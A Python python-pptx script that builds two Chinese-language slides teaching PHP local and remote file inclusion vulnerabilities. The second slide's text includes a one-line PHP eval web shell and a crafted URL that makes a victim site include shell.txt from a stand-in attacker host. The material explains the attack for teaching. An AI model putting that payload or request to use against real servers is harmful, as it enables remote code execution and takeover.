

from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum.dml import MSO_LINE, MSO_PATTERN
from pptx.enum.shapes import MSO_CONNECTOR, MSO_SHAPE
from pptx.enum.text import MSO_ANCHOR, MSO_AUTO_SIZE, PP_ALIGN
from pptx.oxml import parse_xml
from pptx.oxml.ns import nsdecls, qn
from pptx.util import Pt

RECTANGLE, ROUNDED = MSO_SHAPE.RECTANGLE, MSO_SHAPE.ROUNDED_RECTANGLE
HALF_PILL, HEXAGON = MSO_SHAPE.ROUND_2_SAME_RECTANGLE, MSO_SHAPE.HEXAGON
TOP, MIDDLE = MSO_ANCHOR.TOP, MSO_ANCHOR.MIDDLE
LEFT, CENTER, JUSTIFY = PP_ALIGN.LEFT, PP_ALIGN.CENTER, PP_ALIGN.JUSTIFY

BLUE, GRAY, YELLOW, WHITE = "0050A3", "A6A6A6", "FFC000", "FFFFFF"
DARK, MEDIUM, RED = "404040", "595959", "FF0000"
SERIF, SANS = "Times New Roman", "Noto Sans CJK SC"
WIDTH, HEIGHT = 1012.5, 569.5


def style(shape, fill=None, line=None, line_width=1):
    """Give a shape a flat fill and outline, without a shadow."""
    shape.shadow.inherit = False
    for part, color in ((shape.fill, fill), (shape.line.fill, line)):
        if color:
            part.solid()
            part.fore_color.rgb = RGBColor.from_string(color)
        else:
            part.background()
    if line:
        shape.line.width = Pt(line_width)
    return shape


def write(shape, paragraphs, box=None, size=24, font=SERIF, anchor=TOP, align=LEFT,
          spacing=1.0, margins=(7.2, 3.6), auto_size=MSO_AUTO_SIZE.SHAPE_TO_FIT_TEXT):
    """Fill a shape with paragraphs, each a list of (text, color, bold, optional font)."""
    if box:
        for name, value in zip(("left", "top", "width", "height"), box):
            setattr(shape, name, Pt(value))
    frame = shape.text_frame
    side, edge = map(Pt, margins)
    formats = {"word_wrap": True, "auto_size": auto_size, "vertical_anchor": anchor,
               "margin_left": side, "margin_right": side,
               "margin_top": edge, "margin_bottom": edge}
    for name, value in formats.items():
        setattr(frame, name, value)
    for index, runs in enumerate(paragraphs):
        paragraph = frame.add_paragraph() if index else frame.paragraphs[0]
        formats = {"alignment": align, "line_spacing": spacing, "space_before": Pt(0)}
        for name, value in formats.items():
            setattr(paragraph, name, value)
        properties = paragraph._p.get_or_add_pPr()
        properties.set("marL", "0")
        properties.set("indent", "0")
        etree.SubElement(properties, qn("a:buNone"))
        for text, color, bold, *other_font in runs:
            run = paragraph.add_run()
            run.text = text
            formats = {"size": Pt(size), "bold": bold,
                       "name": other_font[0] if other_font else font}
            for name, value in formats.items():
                setattr(run.font, name, value)
            run.font.color.rgb = RGBColor.from_string(color)
            etree.SubElement(run.font._element, qn("a:ea"), typeface=SANS)


presentation = Presentation()
presentation.slide_width, presentation.slide_height = Pt(WIDTH), Pt(HEIGHT)
layout = presentation.slide_layouts.get_by_name("Two Content")
master = presentation.slide_master
slides = [presentation.slides.add_slide(layout) for _ in range(2)]
file_slide, remote_slide = slides

# Shared background
background = master.background.fill
background.patterned()
background.pattern = MSO_PATTERN.WIDE_UPWARD_DIAGONAL
background.fore_color.rgb = RGBColor.from_string("F2F2F2")
background.back_color.rgb = RGBColor.from_string(WHITE)

# Shared frame: thin outline and four mirrored corner brackets, moved to the master
outline = file_slide.shapes.add_shape(RECTANGLE, Pt(6.5), Pt(6.5),
                                      Pt(WIDTH - 13), Pt(HEIGHT - 13))
frame_shapes = [style(outline, line=GRAY, line_width=2)]
bracket = [(0, 0), (172, 0), (163.5, 8.4), (8.4, 8.4), (8.4, 115), (0, 123.4)]
for right in (False, True):
    for bottom in (False, True):
        points = [(Pt(WIDTH - x if right else x), Pt(HEIGHT - y if bottom else y))
                  for x, y in bracket]
        builder = file_slide.shapes.build_freeform(*points[0])
        builder.add_line_segments(points[1:])
        frame_shapes.append(style(builder.convert_to_shape(), BLUE))
for index, shape in enumerate(frame_shapes):
    shape.element.xpath(".//p:cNvPr")[0].set("id", str(100 + index))
    master.shapes.element.insert(2 + index, shape.element)

# Slide 1: title pill, made of two rotated halves
shapes = file_slide.shapes
for box, rotation, color in (((208.1, -21.6, 38.9, 220.3), 90, BLUE),
                             ((62, 54, 40.3, 70.6), 270, GRAY)):
    half = style(shapes.add_shape(HALF_PILL, *map(Pt, box)), color)
    half.rotation = rotation
    half.adjustments[0] = 0.5

# Slide 1: shield with two cut-out quarters, measured from its middle axis
axis = 85.4
shield_half = [(0, 74.2), (8.4, 78), (18.4, 79.2), (18.5, 85.7), (17.2, 92.5),
               (11.8, 98.9), (0, 103.7)]
contours = [
    shield_half + [(-x, y) for x, y in shield_half[-2:0:-1]],
    [(-14, 81.4), (-2, 79.2), (-2, 87.8), (-14, 87.8)],
    [(2.6, 90.7), (13.3, 90.7), (12.6, 92.9), (8.2, 97.2), (2.6, 100)],
]
builder = None
for contour in contours:
    points = [(Pt(axis + x), Pt(y)) for x, y in contour]
    if builder:
        builder.move_to(*points[0])
    else:
        builder = shapes.build_freeform(*points[0])
    builder.add_line_segments(points[1:])
style(builder.convert_to_shape(), WHITE)

# Slide 1: offset panels
for box, color in (((85.7, 301.7, 808.6, 200.2), BLUE),
                   ((104.4, 316.8, 821.5, 205.9), WHITE)):
    style(shapes.add_shape(RECTANGLE, *map(Pt, box)), color, BLUE)

# Slide 1: texts, raised above the panels
title, definition, scene = shapes.placeholders
write(title, [[("本地文件包含漏洞", WHITE, True)]],
      (123.8, 68.4, 240.5, 69.1), margins=(10.8, 5.76))
write(definition, [[
    ("如果被包含文件的文件名是从用户处获得的，且没有经过恰当的检测，从而包含了预想之外的文件，"
     "导致了文件泄露甚至是恶意代码注入，这就是文件包含漏洞", DARK, True),
    ("。如果被包含的文件储存在服务器上，那么对于应用来说，被包含的文件就在本地，"
     "就称之为本地文件包含漏洞。", DARK, False),
]], (86.4, 114.5, 838.8, 176.4), align=JUSTIFY, spacing=1.5)
write(scene, [
    [("场景一：包含上传的合法文件", DARK, True)],
    [("通常应用中都会有文件上传的功能，比如用户头像上传、附件上传等。通过文件上传，"
      "攻击者将能携带有恶意代码的合法文件上传到服务器中，由于在include等语句中，"
      "无论被包含文件的后缀名是什么，只要其中有PHP的代码，都会将其执行。"
      "结合文件包含漏洞，可以将上传的恶意文件引入，使其中的恶意代码得到执行。",
      DARK, False, SANS)],
], (139.7, 316.8, 763.9, 181.4))
for placeholder in (title, definition, scene):
    shapes.element.append(placeholder.element)

# Slide 2: texts
shapes = remote_slide.shapes
unused_title, remote_file, pseudo_protocol = shapes.placeholders
shapes.element.remove(unused_title.element)
write(remote_file, [
    [("包含攻击者服务器上的恶意文件", DARK, True)],
    [("由于allow_url_fopen与 allow_url_include 是开启的，攻击者可以", DARK, False),
     ("将包含恶意代码的文件放在自己的服务器上", DARK, True),
     ("，例如一个内容为<?php eval($_POST[‘pass’]);?>的shell.txt文件，"
      "构造恶意请求http://www.victim.com/index.php", DARK, False),
     ("?func=http://www.hacker.com/shell.txt", RED, True),
     ("，shell.txt中的恶意代码就会在目标服务器上执行。", DARK, False)],
], (242.6, 40.3, 711.4, 181.4), anchor=MIDDLE)
write(pseudo_protocol, [
    [("2. 通过PHP伪协议进行包含", MEDIUM, True)],
    [("在PHP中，如果allow_url_fopen和allow_url_include同时开启的情况下，", MEDIUM, False),
     ("include等函数支持从PHP伪协议中的php://input处获取输入流", MEDIUM, True),
     ("，关于PHP伪协议的相关知识会在下一小节中讨论，这里只关注其中的php://input。",
      MEDIUM, False)],
    [("php://input可以访问请求的原始数据的只读流，也就是通过POST方式发送的内容。", RED, False),
     ("借助PHP伪协议，攻击者直接将想要在服务器上执行的恶意代码通过POST的方式"
      "发送给服务器就能完成攻击", RED, True),
     ("。", MEDIUM, False)],
], (238.3, 246.2, 704.2, 239.8), anchor=MIDDLE)

# Slide 2: automatic number on the first heading
properties = remote_file.text_frame.paragraphs[0]._p.get_or_add_pPr()
properties.set("marL", str(Pt(36)))
properties.set("indent", str(-Pt(36)))
properties.remove(properties.find(qn("a:buNone")))
etree.SubElement(properties, qn("a:buAutoNum"), type="arabicPeriod")

# Slide 2: hexagon badges; icon parts are (kind, box from the badge's corner, fill, line)
laptop = [
    (ROUNDED, (25.3, 24.5, 44.6, 32), WHITE, None),
    (RECTANGLE, (29.5, 28.5, 36.7, 23.6), WHITE, BLUE),
    (ROUNDED, (23.8, 54.7, 48.2, 5), WHITE, None),
    (RECTANGLE, (25.3, 56.2, 44.6, 1.2), BLUE, None),
    (RECTANGLE, (43.2, 56.2, 9.4, 0.6), WHITE, None),
]
monitor = [
    (ROUNDED, (23.8, 20.9, 48.2, 31.7), WHITE, None),
    (RECTANGLE, (27.4, 24.5, 41, 24.5), YELLOW, None),
    (RECTANGLE, (42.5, 52, 10.8, 6), WHITE, None),
    (ROUNDED, (33.9, 57.6, 28, 4.3), WHITE, None),
]
badges = [  # top, color, icon parts, screen label, label color, label size
    (89.3, BLUE, laptop, "PHP", BLUE, 10),
    (308.2, YELLOW, monitor, "</>", WHITE, 16),
]
badge_left, badge_width, badge_height = 81.4, 96.5, 83.5
for top, color, icon, label, label_color, label_size in badges:
    hexagon = style(shapes.add_shape(HEXAGON, Pt(badge_left), Pt(top),
                                     Pt(badge_width), Pt(badge_height)), color)
    effects = hexagon.element.spPr.find(qn("a:effectLst"))
    effects.append(parse_xml(
        f'<a:outerShdw {nsdecls("a")} blurRad="{Pt(4)}" dist="{Pt(3)}" dir="2700000">'
        '<a:srgbClr val="000000"><a:alpha val="20000"/></a:srgbClr></a:outerShdw>'))

    icon_shapes = []
    for kind, (x, y, width, height), fill, line in icon:
        part = shapes.add_shape(kind, Pt(badge_left + x), Pt(top + y), Pt(width), Pt(height))
        icon_shapes.append(style(part, fill, line, 1.5))
    write(icon_shapes[1], [[(label, label_color, True)]], size=label_size, font=SANS,
          anchor=MIDDLE, align=CENTER, margins=(0, 0), auto_size=MSO_AUTO_SIZE.NONE)

    # Dashed arrow towards the text
    middle = Pt(top + badge_height / 2)
    arrow = shapes.add_connector(MSO_CONNECTOR.STRAIGHT, Pt(185.8), middle, Pt(240.5), middle)
    arrow.line.color.rgb = RGBColor.from_string(GRAY)
    arrow.line.width = Pt(1.5)
    arrow.line.dash_style = MSO_LINE.SQUARE_DOT
    for end, kind in (("a:headEnd", "oval"), ("a:tailEnd", "triangle")):
        etree.SubElement(arrow.line._get_or_add_ln(), qn(end), type=kind)
    etree.SubElement(arrow.element.spPr, qn("a:effectLst"))

presentation.save("out.pptx")
